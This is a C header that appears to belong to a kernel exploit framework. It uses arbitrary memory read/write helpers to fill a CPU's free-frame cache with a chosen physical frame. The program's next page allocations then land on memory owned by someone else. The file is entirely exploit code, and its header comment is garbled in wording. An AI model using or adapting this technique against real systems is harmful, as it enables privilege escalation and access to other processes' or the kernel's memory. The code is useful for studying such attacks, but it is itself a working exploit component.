// SPDX-License-Identifier: GPL-2.0-only
/*
 * planted_frame.h - a frame that somebody has is put among the free frames of a processor, and the
 * program takes new pages there until one is it.
 */
#pragma once
#include "../registers.h"

#define KIND_PROGRAM 3
#define STATE_CACHED 2
#define PAGES 64

static char fresh[PAGES][PAGE] __attribute__((aligned(PAGE)));

static bool control(void)
{
	return is_ordinary();
}

/* Over every free frame in the cache: the next page is it. */
static void plant(uint64_t cpu, uint64_t frame)
{
	const uint64_t stack = peek(cpu + member("cpu.frame_cache")) + member("frame_cache.clean") +
			       KIND_PROGRAM * member("frame_stack.SIZE");

	poke8(frame + member("frame.state"), STATE_CACHED);
	for (uint32_t i = 0; i < peek32(stack + member("frame_stack.count")); i++)
		poke(stack + member("frame_stack.slots") + 8 * i, frame);
}

/* The frame at PHYSICAL; is_it() knows the page. */
static inline bool take_frame(uint64_t physical, bool (*is_it)(const char *page))
{
	const uint64_t cpu = own_cpu(0);
	const uint64_t frame = peek(symbol("frame_arrays") + member("frame_arrays.frames")) +
			       (physical >> 12) * member("frame.SIZE");

	for (unsigned int i = 0; i < PAGES; i++) {
		plant(cpu, frame);
		fresh[i][PAGE - 1] = 1;
		if (is_it(fresh[i]))
			return true;
	}
	return false;
}
